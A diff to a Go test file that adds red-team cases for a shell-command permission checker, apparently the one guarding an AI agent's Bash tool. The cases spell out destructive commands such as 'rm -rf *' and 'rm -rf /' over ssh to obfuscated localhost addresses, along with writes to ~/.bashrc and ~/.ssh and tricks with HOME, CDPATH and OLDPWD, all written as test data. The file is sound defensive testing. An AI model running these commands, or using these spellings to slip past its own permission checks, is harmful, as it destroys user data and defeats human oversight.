@@ -1238,7 +1238,7 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S15 neighbour: parameter expansions", D, nil, `let 'a[1]=1'; for x in 'a[${y}]'; do echo "$x"; done; echo "${HOME}"`, Allow},
 		// S15: where a command runs, and what ~ and $PWD name, after the
 		// command line changed them in ways the analysis cannot follow.
-		{"S15 cd - after OLDPWD=/", Y, nil, `OLDPWD=/; cd - && rm -rf *`, Ask},
+		{"S15 cd - after OLDPWD=/", Y, nil, `OLDPWD=/; cd - && rm -rf *`, Deny},
 		{"S15 cd \"$x\" && rm -rf *", Y, nil, `cd "$x" && rm -rf *`, Ask},
 		{"S15 cd - && rm -rf .", Y, nil, `cd - && rm -rf .`, Ask},
 		{"S15 pushd -n / then popd", Y, nil, `pushd -n /; popd; rm -rf *`, Ask},
@@ -1291,6 +1291,70 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S15 ssh URL to localhost", D, []string{"deny:Bash(git push:*)"}, `ssh ssh://me@localhost:2222 'git push'`, Deny},
 		{"S15 ssh localhost writes the home's start-up file", Y, nil, `ssh localhost 'echo x >> .bashrc'`, Ask},
 		{"S15 neighbour: ssh elsewhere and a login", D, nil, `ssh build.example.com 'rm -rf /tmp/x'; ssh -o BatchMode=yes localhost ls`, Allow},
+		// S17: a $HOME in an option's attached value left the option
+		// unread, and with it the write it names.
+		{"S17 sort --output=$HOME", D, nil, `sort --output=$HOME/.bashrc x`, Ask},
+		{"S17 curl -o$HOME", Y, nil, `curl -o$HOME/.bashrc https://example.com/x`, Ask},
+		{"S17 tar --directory=$HOME", Y, nil, `tar -xf a.tar --directory=$HOME/.ssh`, Ask},
+		{"S17 cp --target-directory=$HOME", Y, nil, `cp --target-directory=$HOME/.ssh x`, Ask},
+		{"S17 clang --output=$HOME", Y, nil, `clang --output=$HOME/.bashrc x.c`, Ask},
+		{"S17 gcc -Wl,-o,$HOME", Y, nil, `gcc -Wl,-o,$HOME/.bashrc x.c`, Ask},
+		{"S17 curl -s$x", D, nil, `curl -s$x https://example.com/x`, Ask},
+		{"S17 neighbour: an output in the project", D, nil, `sort --output=out.txt x`, Allow},
+		{"S17 neighbour: a cluster only known at run time", D, nil, `tar -x$y -f a.tar`, Ask},
+		{"S17 neighbour: an output only known at run time", D, nil, `sort -o "$OUT" x`, Ask},
+		// S17: a command that may run in one of several directories is
+		// checked in each.
+		{"S17 rm -rf * in one of several directories", Y, nil, `if x; then cd /usr; else cd build; fi; rm -rf *`, Deny},
+		// S17: CDPATH makes a relative cd go elsewhere than the name says:
+		// below each entry, or somewhere unknown when the value is.
+		{"S17 CDPATH=/ then cd usr", Y, nil, `CDPATH=/; cd usr && rm -rf *`, Deny},
+		{"S17 CDPATH=/ then a write", Y, nil, `CDPATH=/; cd etc; echo x > profile`, Ask},
+		{"S17 export CDPATH", Y, nil, `export CDPATH=/; cd etc; echo x > profile`, Ask},
+		{"S17 CDPATH as the cd's prefix", Y, nil, `CDPATH=/ cd etc; echo x > profile`, Ask},
+		{"S17 CDPATH only known at run time", Y, nil, `CDPATH=$x; cd etc && rm -rf *`, Ask},
+		{"S17 neighbour: cd into the project", Y, nil, `cd build && rm -rf *`, Allow},
+		// S17: HOME, PWD and OLDPWD changed in ways the analysis missed.
+		{"S17 HOME= prefix of sh -c", Y, nil, `HOME=/etc sh -c 'echo x > ~/profile'`, Ask},
+		{"S17 env HOME= bash -c", Y, nil, `env HOME=/etc bash -c 'echo x > ~/profile'`, Ask},
+		{"S17 nameref to HOME", Y, nil, `declare -n H=HOME; H=/etc; echo x > ~/profile`, Ask},
+		{"S17 ${HOME:-x}", Y, nil, `HOME=/etc; echo x > ${HOME:-x}/profile`, Ask},
+		{"S17 cd - after OLDPWD=/etc", Y, nil, `OLDPWD=/etc; cd -; echo x > profile`, Ask},
+		{"S17 OLDPWD as the cd's prefix", Y, nil, `OLDPWD=/etc cd -; echo x > profile`, Ask},
+		{"S17 ${PWD%/}", Y, nil, `PWD=/etc; echo x > ${PWD%/}/profile`, Ask},
+		{"S17 neighbour: a test home", Y, nil, `export HOME=/tmp/h; npm test`, Allow},
+		{"S17 neighbour: a variable named like HOME", Y, nil, `echo "${HOMEBREW_PREFIX}"`, Allow},
+		// S17: formatter options spelled in ways the tables missed.
+		{"S17 gofmt --w", Y, nil, `gofmt --w ~/.bashrc`, Ask},
+		{"S17 clang-format --i", Y, nil, `clang-format --i ~/.bashrc`, Ask},
+		{"S17 autopep8 -ia", Y, nil, `autopep8 -ia ~/.bashrc`, Ask},
+		{"S17 autopep8 --in-pl", Y, nil, `autopep8 --in-pl ~/.bashrc`, Ask},
+		{"S17 yq -Pi", Y, nil, `yq -Pi . ~/.bashrc`, Ask},
+		{"S17 yq -iP", Y, nil, `yq -iP . ~/.bashrc`, Ask},
+		{"S17 biome check --apply-unsafe", Y, nil, `biome check --apply-unsafe ~/.bashrc`, Ask},
+		{"S17 ruff check --fix-only", Y, nil, `ruff check --fix-only ~/.bashrc`, Ask},
+		{"S17 deno fmt", Y, nil, `deno fmt ~/.bashrc`, Ask},
+		{"S17 deno fmt past an Edit deny", D, []string{"deny:Edit(/infra/**)"}, `deno fmt infra`, Deny},
+		{"S17 neighbour: checks", D, []string{"deny:Edit(/infra/**)"}, `gofmt -l src && prettier --check src && deno fmt --check src`, Allow},
+		// S17: other spellings of this host, and a host only known at
+		// run time, for ssh.
+		{"S17 ssh 0x7f000001", Y, nil, `ssh 0x7f000001 'rm -rf /'`, Deny},
+		{"S17 ssh 2130706433", Y, nil, `ssh 2130706433 'rm -rf /'`, Deny},
+		{"S17 ssh 0177.0.0.1", Y, nil, `ssh 0177.0.0.1 'rm -rf /'`, Deny},
+		{"S17 ssh 127.1", Y, nil, `ssh 127.1 'rm -rf /'`, Deny},
+		{"S17 ssh ::ffff:127.0.0.1", Y, nil, `ssh ::ffff:127.0.0.1 'rm -rf /'`, Deny},
+		{"S17 ssh 0:0:0:0:0:0:0:1", Y, nil, `ssh 0:0:0:0:0:0:0:1 'rm -rf /'`, Deny},
+		{"S17 ssh -oHostName=localhost", Y, nil, `ssh -oHostName=localhost x 'rm -rf /'`, Deny},
+		{"S17 ssh -o HostName=127.0.0.1", Y, nil, `ssh -o HostName=127.0.0.1 x 'rm -rf /'`, Deny},
+		{"S17 ssh to a host only known at run time", Y, nil, `ssh "$h" 'rm -rf /'`, Deny},
+		{"S17 ssh [::1]", Y, nil, `ssh [::1] 'rm -rf /'`, Deny},
+		{"S17 ssh to a glob", Y, nil, `ssh local* 'rm -rf /'`, Deny},
+		{"S17 neighbour: ssh elsewhere", D, nil, `ssh build.example.com 'rm -rf /tmp/x'`, Allow},
+		{"S17 neighbour: ssh to GitHub", D, nil, `ssh -T git@github.com`, Allow},
+		{"S17 neighbour: HostName elsewhere", D, nil, `ssh -o HostName=build.example.com localhost 'rm -rf /tmp/x'`, Allow},
+		// S17: readers the tables did not know.
+		{"S17 neighbour: delta reads", Y, nil, `delta ~/.gitconfig x`, Allow},
+		{"S17 neighbour: delta's reads meet Read rules", D, []string{"deny:Read(~/.ssh/**)"}, `delta ~/.ssh/id_rsa x`, Deny},
 		{"S14 neighbour: extractions in the project", Y, nil, `7z x a.7z -obuild && cpio -idm --no-absolute-filenames -D build < a.cpio && unrar x a.rar build/ && ar x lib.a && ar rcs lib.a x.o`, Allow},
 	}
 	checkDecisions(t, tests)
